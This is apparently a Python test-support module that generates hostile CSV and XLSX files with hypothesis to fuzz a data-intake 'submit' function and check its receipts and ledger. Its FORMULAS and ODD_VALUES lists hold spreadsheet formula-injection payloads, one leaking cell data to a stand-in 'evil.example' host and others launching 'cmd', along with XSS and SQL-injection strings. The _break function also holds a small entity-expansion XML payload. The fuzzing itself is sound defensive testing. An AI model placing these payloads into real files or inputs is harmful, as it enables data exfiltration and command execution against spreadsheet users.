"""Hostile CSV and XLSX files for the intake, as hypothesis strategies, and the property every one
of them must keep when it goes through `submit` (the function behind `ciess submit`): a receipt
whose status is one of the four, rule codes of the catalogue, and one ledger row per decision.

Shared by tests/intake/test_fuzz.py (a few hundred examples in `make test`) and
benchmarks/fuzz_intake.py (the long run, `make fuzz`); defined once, here.

CSV: encodings (UTF-8 with and without BOM, Windows-1252, Latin-1, UTF-16, two mixed), delimiters
(, ; tab |), quoting (minimal, all, none; a quote that never closes, a quote in a value), line
ends, title rows, headers (the contract's, shuffled, missing, duplicated, respelled, junk, none),
values (the examples', empty, huge, formula-like, control characters, NUL), ragged rows, bytes
cut or inserted. XLSX: the ZIP written by hand (zipfile), with shared or inline strings, numbers
and date serials, cell references right, missing or sparse, any `<dimension ref>`, broken XML in
any part, parts missing, and the ZIP cut short or with bytes changed."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from contextlib import closing
from dataclasses import dataclass, field
from datetime import date
from functools import cache
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from hypothesis import strategies as st

from pipelines.common.paths import SCHEMAS_DIR
from pipelines.contract.model import load_contract, rule_catalog

KINDS = ("staffing", "training")
INSTITUTIONS = ("AR-ANSES", "BR-INSS", "CL-IPS")
PERIODS = ("2026-Q2", "2026-Q2", "2026-Q1")  # the examples' dates are in 2026-Q2
STATUSES = ("ACCEPTED", "ACCEPTED_WITH_WARNINGS", "REJECTED", "DUPLICATE")
ENCODINGS = ("utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "utf-16-le", "mixed")
DELIMITERS = (",", ";", "\t", "|")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/c calc'!'A1'",
    "-1",
)
ODD_VALUES = (
    "1e308", "-0", "NaN", "inf", "-inf", "1,5", "1.000,50", "1 000", "١٩٨٥", "𝟙𝟡𝟠𝟝", "2026-02-30", "31/12/2026",
    "2026-13-01", "0001-01-01", "9999-12-31", "45000", "0x10", " 1 ", "TRUE", "null", "None", "N/A", "#N/A",
    "#REF!", "\ufeffE0001", "E0001\u200b", "E0001 ", "e0001", "99999999999999999999999", "1/0", "ＡＢＣ",
    "e\u0301", "\u202eE0001", "<script>alert(1)</script>", "'; drop table submissions; --", "{value}", "%s%n",
)  # fmt: skip
CONTROL = "".join(map(chr, range(32))) + "\x7f\x85\u2028\u2029\ufffe"
JUNK_HEADERS = (
    "", " ", "Unnamed: 0", "nombre", "email", "cédula", "CPF", "notes", "=SUM(A1:A9)", "\ufeffstaff_id", "col\x00",
    "#", "a" * 300, "staff_id2", "fte (%)", "Total",
)  # fmt: skip
PREAMBLES = ("Reporte trimestral de capacitación", "Instituto: AR-ANSES", "", "Período 2026-Q2", "=TODAY()")
MILD_HEADER_MODES = ("exact", "shuffled", "respelled")
HEADER_MODES = ("exact", "exact", "shuffled", "missing", "duplicated", "junk", "respelled", "junk_only", "none")
MAX_CHARS = 4_000_000  # what repeating the rows may make a file hold (huge cells come on top)
BREAKAGES = ("truncate", "garbage", "wrong_root", "empty", "not_xml", "bad_declaration", "missing", "entity")


@dataclass(frozen=True)
class FuzzFile:
    """One hostile file and the request it is sent with; `recipe` says how it was made."""

    name: str
    data: bytes
    kind: str
    institution: str
    period: str
    recipe: dict[str, Any] = field(default_factory=dict, compare=False)

    @property
    def format(self) -> str:
        return "xlsx" if self.recipe.get("format") == "xlsx" else "csv"

    def __repr__(self) -> str:  # what hypothesis prints for a failing example
        return (f"FuzzFile({self.name!r}, {len(self.data)} bytes, {self.kind}, {self.institution}, {self.period}, "
                f"{json.dumps(self.recipe, ensure_ascii=False)[:400]}, data={self.data[:300]!r})")  # fmt: skip


@cache
def _examples(kind: str) -> tuple[tuple[str, ...], tuple[dict[str, str], ...]]:
    with open(SCHEMAS_DIR / kind / "examples" / "valid.csv", encoding="utf-8", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    return tuple(header), tuple(dict(zip(header, row, strict=True)) for row in rows)


@cache
def _pool(kind: str, column: str) -> tuple[str, ...]:
    """Values that are right for the column: the examples' and the contract's codes."""
    contract = load_contract(kind)
    codes = next((c.codes for c in contract.columns if c.name == column), ())
    return tuple(dict.fromkeys([row[column] for row in _examples(kind)[1]] + list(codes)))


def _repeat(piece: str, times: int) -> str:
    return piece * times


def cells(pool: tuple[str, ...], huge: int) -> st.SearchStrategy[str]:
    """One cell: right for the column, or empty, formula-like, odd, random, control characters
    and NUL, or huge."""
    return st.one_of(
        st.sampled_from(pool or ("x",)),
        st.just(""),
        st.sampled_from(FORMULAS),
        st.sampled_from(ODD_VALUES),
        st.text(max_size=12),
        st.text(alphabet=CONTROL + "ab\"',;|\t", max_size=8),
        st.builds(_repeat, st.sampled_from(("A", "é", " ", '"', "x,y;", "€", "\n", "𝄞")), st.integers(1, huge)),
    )


def _respell(name: str, how: int) -> str:
    return [name.upper(), name.replace("_", " ").title(), f"  {name} ", name.replace("_", "-"), name][how % 5]


@st.composite
def tables(
    draw, kind: str, huge: int = 40_000, max_repeat: int = 200, mild: bool = False
) -> tuple[list[list[str]], dict[str, Any]]:
    """The records of a file (title rows, header row, data rows) and how they were made; the rows
    repeated up to `max_repeat` times, within MAX_CHARS. `mild`: a file a careful sender could
    send (the contract's headers, a few odd values at most), so that some are accepted."""
    names = list(_examples(kind)[0])
    examples = _examples(kind)[1]
    header_mode = draw(st.sampled_from(MILD_HEADER_MODES if mild else HEADER_MODES))
    columns: list[str] = list(names)
    if header_mode == "shuffled":
        columns = list(draw(st.permutations(names)))
    elif header_mode == "missing":
        dropped = draw(st.sets(st.sampled_from(names), min_size=1, max_size=len(names)))
        columns = [name for name in names if name not in dropped]
    elif header_mode == "duplicated":
        columns.insert(draw(st.integers(0, len(columns))), draw(st.sampled_from(names)))
    elif header_mode == "junk":
        for junk in draw(st.lists(st.sampled_from(JUNK_HEADERS) | st.text(max_size=10), min_size=1, max_size=3)):
            columns.insert(draw(st.integers(0, len(columns))), "\x00junk:" + junk)
    elif header_mode == "junk_only":
        columns = ["\x00junk:" + j for j in draw(st.lists(st.sampled_from(JUNK_HEADERS), min_size=1, max_size=6))]
    respelling = draw(st.integers(0, 4)) if header_mode == "respelled" else 4
    headers = [column.removeprefix("\x00junk:") if column.startswith("\x00junk:") else _respell(column, respelling)
               for column in columns]  # fmt: skip

    values = draw(st.sampled_from(("valid", "valid", "few") if mild else ("valid", "few", "chaos")))
    count = draw(st.integers(1, len(examples)) if mild else st.integers(0, len(examples) + 3))
    rows: list[list[str]] = []
    for index in range(count):
        example = examples[index % len(examples)]
        row = []
        for column in columns:
            if values == "chaos" or column not in example:
                row.append(draw(cells(_pool(kind, column) if column in example else (), huge)))
            else:
                row.append(example[column])
        rows.append(row)
    if values == "few" and rows and columns:
        for _ in range(draw(st.integers(1, 3))):
            row = draw(st.integers(0, len(rows) - 1))
            column = draw(st.integers(0, len(columns) - 1))
            rows[row][column] = draw(cells(_pool(kind, columns[column]) if columns[column] in names else (), huge))
    ragged = None if mild else draw(st.sampled_from((None, None, "short", "long")))
    if ragged and rows:
        row = draw(st.integers(0, len(rows) - 1))
        if ragged == "short":
            rows[row] = rows[row][: draw(st.integers(0, max(0, len(rows[row]) - 1)))]
        else:
            rows[row] = rows[row] + draw(st.lists(st.text(max_size=5), min_size=1, max_size=3))
    repeat = draw(st.sampled_from((1, 1, 1, 2, max_repeat)))
    if repeat > 1 and rows:
        repeat = max(1, min(repeat, MAX_CHARS // max(1, sum(len(value) for row in rows for value in row))))
        rows = [list(row) for _ in range(repeat) for row in rows]
        if "staff_id" in columns and draw(st.booleans()):  # unique keys: a big file that may be accepted
            at = columns.index("staff_id")
            for number, row in enumerate(rows):
                if len(row) > at:
                    row[at] = f"E{number:06d}"
    preamble = draw(st.lists(st.sampled_from(PREAMBLES), max_size=2))
    records = [[line] for line in preamble] + ([] if header_mode == "none" else [headers]) + rows
    recipe = {"headers": header_mode, "values": values, "rows": len(rows), "ragged": ragged, "repeat": repeat,
              "preamble": len(preamble)}  # fmt: skip
    return records, recipe


def _csv_text(records: list[list[str]], delimiter: str, quoting: str, newline: str) -> str:
    if quoting == "none":  # written raw: a value holding the delimiter, a quote or a newline breaks the record
        return "".join(delimiter.join(record) + newline for record in records)
    buffer = io.StringIO(newline="")
    writer = csv.writer(
        buffer,
        delimiter=delimiter,
        lineterminator=newline,
        quoting=csv.QUOTE_ALL if quoting == "all" else csv.QUOTE_MINIMAL,
    )
    writer.writerows(records)
    return buffer.getvalue()


def _damage_quotes(draw, text: str, delimiter: str, newline: str, how: str | None) -> str:
    """A quote that opens a value and never closes (at the start of a value of some line), or a
    quote in the middle of a value."""
    if how is None or not text:
        return text
    lines = text.split(newline)
    line = draw(st.integers(0, len(lines) - 1))
    if how == "unclosed_first_data":
        line = min(len(lines) - 1, draw(st.integers(1, 2)))
    chosen = lines[line]
    if how == "middle":
        at = draw(st.integers(0, len(chosen)))
    else:
        starts = [0] + [index + 1 for index, char in enumerate(chosen) if char == delimiter]
        at = starts[draw(st.integers(0, len(starts) - 1))]
    lines[line] = chosen[:at] + '"' + chosen[at:]
    return newline.join(lines)


def _encode(text: str, encoding: str) -> bytes:
    if encoding == "mixed":  # the first half UTF-8, the rest Windows-1252
        half = len(text) // 2
        return text[:half].encode("utf-8", "replace") + text[half:].encode("cp1252", "replace")
    return text.encode(encoding, "replace")


def _damage_bytes(draw, data: bytes, how: str | None) -> bytes:
    if how is None:
        return data
    at = draw(st.integers(0, len(data)))
    if how == "nul":
        return data[:at] + b"\x00" + data[at:]
    if how == "truncate":
        return data[:at]
    if how == "insert":
        return data[:at] + draw(st.binary(min_size=1, max_size=8)) + data[at:]
    return data[:at] + b"\xff\xfe\x00" + data[at:]  # "bom_inside"


@st.composite
def requests(draw, mild: bool = False) -> tuple[str, str, str]:
    period = PERIODS[0] if mild else draw(st.sampled_from(PERIODS))
    return draw(st.sampled_from(KINDS)), draw(st.sampled_from(INSTITUTIONS)), period


def _pick(draw, mild: bool, hostile: tuple, gentle: tuple = (None,)):
    return draw(st.sampled_from(gentle if mild else hostile))


@st.composite
def csv_files(draw, huge: int = 40_000, max_repeat: int = 200) -> FuzzFile:
    mild = draw(st.integers(0, 2)) == 0
    kind, institution, period = draw(requests(mild))
    records, recipe = draw(tables(kind, huge, max_repeat, mild))
    delimiter = _pick(draw, mild, DELIMITERS, DELIMITERS[:3])
    quoting = draw(st.sampled_from(("minimal", "minimal", "all", "none")))
    newline = draw(st.sampled_from(("\r\n", "\n", "\r")))
    quotes = _pick(draw, mild, (None, None, "unclosed", "unclosed_first_data", "middle"))
    text = _damage_quotes(draw, _csv_text(records, delimiter, quoting, newline), delimiter, newline, quotes)
    encoding = _pick(draw, mild, ENCODINGS, ENCODINGS[:4])
    damage = _pick(draw, mild, (None, None, None, "nul", "truncate", "insert", "bom_inside"))
    data = _damage_bytes(draw, _encode(text, encoding), damage)
    suffix = _pick(draw, mild, (".csv", ".csv", ".CSV", ".txt", ".xlsx", ""), (".csv",))
    recipe |= {"format": "csv", "mild": mild, "delimiter": delimiter, "quoting": quoting, "newline": newline,
               "quotes": quotes,
               "encoding": encoding, "bytes": damage}  # fmt: skip
    return FuzzFile(f"fuzz{suffix}", data, kind, institution, period, recipe)


# XLSX, written by hand ------------------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
SHEET_PART = "xl/worksheets/sheet1.xml"
DIMENSIONS = ("true", "true", "smaller", "larger", "whole", "single", "missing")


def _column_letters(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def _xml_text(text: str, controls: str) -> str:
    """Text for an XML element: control characters left raw (XML cannot hold them: a broken
    part), written as OOXML's _xHHHH_ escapes, or dropped."""
    if controls == "ooxml":
        text = "".join(f"_x{ord(c):04X}_" if ord(c) < 32 and c not in "\t\n\r" else c for c in text)
    elif controls == "drop":
        text = "".join(c for c in text if ord(c) >= 32 or c in "\t\n\r")
    return escape(text)


def _serial(text: str) -> int | None:
    try:
        return (date.fromisoformat(text) - date(1899, 12, 30)).days
    except ValueError:
        return None


def _number(text: str) -> str | None:
    try:
        value = float(text)
    except ValueError:
        return None
    return text if value == value and abs(value) != float("inf") else None


def _parts(records: list[list[str]], choice: dict[str, Any], kind: str) -> dict[str, bytes]:
    """The workbook's parts, from the records and the choices drawn."""
    strings: list[str] = []
    controls, storage, refs = choice["controls"], choice["strings"], choice["refs"]
    rows_xml = []
    width = max((len(record) for record in records), default=0)
    for row_number, record in enumerate(records, start=1):
        cells_xml = []
        for column, value in enumerate(record):
            if value == "" and refs in ("sparse", "proper"):
                continue  # Excel writes no element for an empty cell
            ref = f' r="{_column_letters(column)}{row_number}"' if refs != "none" else ""
            if refs == "backwards":
                ref = f' r="{_column_letters(max(0, width - column - 1))}{row_number}"'
            if choice["typed"] and row_number > 1 and (serial := _serial(value)) is not None:
                cells_xml.append(f'<c{ref} s="1"><v>{serial}</v></c>')
            elif choice["typed"] and row_number > 1 and (number := _number(value)) is not None:
                cells_xml.append(f"<c{ref}><v>{number}</v></c>")
            elif value.startswith("=") and choice["formulas"]:
                cells_xml.append(f'<c{ref} t="str"><f>{_xml_text(value[1:], controls)}</f><v>0</v></c>')
            elif storage == "shared" or (storage == "mixed" and (row_number + column) % 2):
                index = len(strings) + (999_999 if choice["bad_index"] and row_number == 2 and column == 0 else 0)
                strings.append(value)
                cells_xml.append(f'<c{ref} t="s"><v>{index}</v></c>')
            else:
                cells_xml.append(f'<c{ref} t="inlineStr"><is><t xml:space="preserve">'
                                 f"{_xml_text(value, controls)}</t></is></c>")  # fmt: skip
        row_ref = f' r="{row_number}"' if choice["row_refs"] else ""
        rows_xml.append(f"<row{row_ref}>{''.join(cells_xml)}</row>")
    last = f"{_column_letters(max(width, 1) - 1)}{max(len(records), 1)}"
    dimension = {
        "true": f'<dimension ref="A1:{last}"/>',
        "smaller": '<dimension ref="A1:B2"/>',
        "larger": '<dimension ref="A1:Z5000"/>',
        "whole": '<dimension ref="A1:XFD1048576"/>',
        "single": '<dimension ref="A1"/>',
        "junk": '<dimension ref="ZZZZ!!:-1"/>',
        "missing": "",
    }[choice["dimension"]]
    sheet = (f'{DECLARATION}<worksheet xmlns="{MAIN}">{dimension}<sheetData>{"".join(rows_xml)}</sheetData>'
             "</worksheet>")  # fmt: skip
    sheet_name = {"kind": kind, "sheet1": "Sheet1", "junk": choice["junk_name"]}[choice["sheet_name"]]
    sheets = f'<sheet name={quoteattr(sheet_name)} sheetId="1" r:id="rId1"/>'
    workbook_rels = f'<Relationship Id="rId1" Type="{OFFICE_RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
    overrides = ['<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
                 'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>']  # fmt: skip
    parts: dict[str, str] = {SHEET_PART: sheet}
    if choice["notes_sheet"]:  # a first sheet of notes, not named like the kind
        sheets = f'<sheet name="Notas" sheetId="2" r:id="rId9"/>{sheets}'
        workbook_rels += f'<Relationship Id="rId9" Type="{OFFICE_RELS}/worksheet" Target="worksheets/sheet2.xml"/>'
        parts["xl/worksheets/sheet2.xml"] = (f'{DECLARATION}<worksheet xmlns="{MAIN}"><sheetData><row r="1">'
                                             '<c r="A1" t="inlineStr"><is><t>Notas</t></is></c></row></sheetData>'
                                             "</worksheet>")  # fmt: skip
        overrides.append(overrides[0].replace("sheet1", "sheet2"))
    workbook_rels += f'<Relationship Id="rId2" Type="{OFFICE_RELS}/styles" Target="styles.xml"/>'
    if strings:
        workbook_rels += f'<Relationship Id="rId3" Type="{OFFICE_RELS}/sharedStrings" Target="sharedStrings.xml"/>'
        items = "".join(f'<si><t xml:space="preserve">{_xml_text(text, controls)}</t></si>' for text in strings)
        parts["xl/sharedStrings.xml"] = (f'{DECLARATION}<sst xmlns="{MAIN}" count="{len(strings)}" '
                                         f'uniqueCount="{len(strings)}">{items}</sst>')  # fmt: skip
        overrides.append('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                         'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')  # fmt: skip
    parts["xl/workbook.xml"] = (f'{DECLARATION}<workbook xmlns="{MAIN}" xmlns:r="{OFFICE_RELS}"><sheets>{sheets}'
                                "</sheets></workbook>")  # fmt: skip
    parts["xl/_rels/workbook.xml.rels"] = f'{DECLARATION}<Relationships xmlns="{RELS}">{workbook_rels}</Relationships>'
    parts["xl/styles.xml"] = (
        f'{DECLARATION}<styleSheet xmlns="{MAIN}"><fonts count="1"><font/></fonts><fills count="1"><fill>'
        '<patternFill patternType="none"/></fill></fills>'
        '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="2">'
        '<xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs><cellStyles count="1">'
        '<cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>'
    )
    parts["_rels/.rels"] = (
        f'{DECLARATION}<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{OFFICE_RELS}/officeDocument" '
        'Target="xl/workbook.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/'
        'relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>'
    )
    parts["docProps/core.xml"] = (
        f'{DECLARATION}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
        'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>fuzz</dc:creator>'
        "</cp:coreProperties>"
    )
    overrides += [
        '<Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
        '<Override PartName="/xl/styles.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>',
        '<Override PartName="/docProps/core.xml" ContentType="application/'
        'vnd.openxmlformats-package.core-properties+xml"/>',
    ]
    parts["[Content_Types].xml"] = (
        f'{DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{"".join(overrides)}</Types>'
    )
    return {name: text.encode("utf-8", "surrogatepass") for name, text in parts.items()}


def _break(draw, parts: dict[str, bytes], part: str, how: str) -> None:
    data = parts[part]
    if how == "missing":
        del parts[part]
    elif how == "truncate":
        parts[part] = data[: draw(st.integers(0, max(0, len(data) - 1)))]
    elif how == "garbage":
        at = draw(st.integers(0, len(data)))
        parts[part] = data[:at] + draw(st.sampled_from((b"<", b"&", b"</x>", b"<<&\x00", b"]]>", b'"'))) + data[at:]
    elif how == "wrong_root":
        parts[part] = DECLARATION.encode() + b"<nothing/>"
    elif how == "empty":
        parts[part] = b""
    elif how == "not_xml":
        parts[part] = draw(st.binary(max_size=64))
    elif how == "bad_declaration":
        parts[part] = data.replace(b'encoding="UTF-8"', b'encoding="UTF-16"', 1)
    else:  # "entity": a declaration (a billion laughs in small)
        parts[part] = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
                       + data.split(b"?>", 1)[-1])  # fmt: skip


@st.composite
def xlsx_files(draw, huge: int = 40_000, max_repeat: int = 200) -> FuzzFile:
    mild = draw(st.integers(0, 2)) == 0
    kind, institution, period = draw(requests(mild))
    records, recipe = draw(tables(kind, huge, max_repeat, mild))
    choice = {
        "strings": draw(st.sampled_from(("shared", "inline", "mixed"))),
        "refs": _pick(draw, mild, ("proper", "sparse", "none", "backwards"), ("proper", "sparse", "none")),
        "row_refs": draw(st.booleans()),
        "typed": draw(st.booleans()),
        "formulas": draw(st.booleans()),
        "bad_index": not mild and draw(st.integers(0, 9)) == 0,
        "controls": _pick(draw, mild, ("ooxml", "drop", "raw"), ("ooxml", "drop")),
        "dimension": _pick(draw, mild, (*DIMENSIONS, "junk"), DIMENSIONS),
        "sheet_name": draw(st.sampled_from(("kind", "kind", "sheet1", "junk"))),
        "junk_name": draw(st.text(max_size=31)),
        "notes_sheet": draw(st.integers(0, 5)) == 0,
    }
    parts = _parts(records, choice, kind)
    broken = _pick(draw, mild, (None, None, *sorted(parts)))
    how = draw(st.sampled_from(BREAKAGES)) if broken else None
    if broken:
        _break(draw, parts, broken, how)
    buffer = io.BytesIO()
    compression = draw(st.sampled_from((zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED)))
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name in draw(st.permutations(sorted(parts))):
            archive.writestr(name, parts[name])
    data = buffer.getvalue()
    damage = _pick(draw, mild, (None, None, None, "truncate", "flip", "prefix"))
    if damage == "truncate":
        data = data[: draw(st.integers(4, max(4, len(data) - 1)))]
    elif damage == "flip":
        at = draw(st.integers(0, len(data) - 1))
        data = data[:at] + bytes([data[at] ^ draw(st.integers(1, 255))]) + data[at + 1 :]
    elif damage == "prefix":
        data = b"PK\x03\x04" + draw(st.binary(max_size=32))
    suffix = _pick(draw, mild, (".xlsx", ".xlsx", ".XLSX", ".csv", ".xlsm"), (".xlsx",))
    recipe |= {"format": "xlsx", "mild": mild, **{k: v for k, v in choice.items() if k != "junk_name"},
               "broken_part": broken, "breakage": how, "zip": damage}  # fmt: skip
    return FuzzFile(f"fuzz{suffix}", data, kind, institution, period, recipe)


def fuzz_files(huge: int = 40_000, max_repeat: int = 200) -> st.SearchStrategy[FuzzFile]:
    return csv_files(huge, max_repeat) | xlsx_files(huge, max_repeat)


# The property ---------------------------------------------------------------------------------


def ledger_rows(settings) -> int:
    if not settings.ledger_path.exists():
        return 0
    with closing(sqlite3.connect(settings.ledger_path)) as connection:
        return connection.execute("select count(*) from submissions").fetchone()[0]


def receipt_problems(receipt: dict[str, Any], settings) -> list[str]:
    """What is wrong with a receipt (nothing, for every file): its status, its rule codes, its
    counts, and the lake file of an accepted one."""
    problems = []
    status = receipt.get("status")
    if status not in STATUSES:
        problems.append(f"status {status!r}")
    known = rule_catalog().rules
    codes = set(receipt.get("rule_counts", {})) | {issue.get("rule") for issue in receipt.get("issues", [])}
    if unknown := sorted(str(code) for code in codes - set(known)):
        problems.append(f"rule codes not in the catalogue: {unknown}")
    errors, warnings = receipt.get("errors"), receipt.get("warnings")
    if status == "REJECTED" and not errors:
        problems.append("REJECTED without an error")
    if status in ("ACCEPTED", "ACCEPTED_WITH_WARNINGS", "DUPLICATE") and errors:
        problems.append(f"{status} with {errors} errors")
    if status == "ACCEPTED" and warnings:
        problems.append(f"ACCEPTED with {warnings} warnings")
    if status == "ACCEPTED_WITH_WARNINGS" and not warnings:
        problems.append("ACCEPTED_WITH_WARNINGS without a warning")
    if status in ("ACCEPTED", "ACCEPTED_WITH_WARNINGS"):
        from pipelines.intake.storing.ledger import Ledger

        row = Ledger.of(settings).get(receipt["submission_id"])
        if row is None or not row.version or not row.lake_path or not (settings.home / row.lake_path).is_file():
            problems.append(f"accepted without its lake file: {row}")
    return problems


def submit_fuzzed(settings, folder: Path, fuzzed: FuzzFile) -> tuple[dict[str, Any], list[str]]:
    """Write the file, send it through `submit` (as `ciess submit` does) and check the receipt
    and the ledger. An exception out of `submit` is the caller's to catch (a crash)."""
    from pipelines.intake.submission import submit

    path = folder / fuzzed.name
    path.write_bytes(fuzzed.data)
    before = ledger_rows(settings)
    result = submit(path, fuzzed.institution, fuzzed.kind, fuzzed.period, settings)
    problems = receipt_problems(result.receipt, settings)
    if (after := ledger_rows(settings)) != before + 1:
        problems.append(f"the ledger went from {before} to {after} rows for one decision")
    return result.receipt, problems
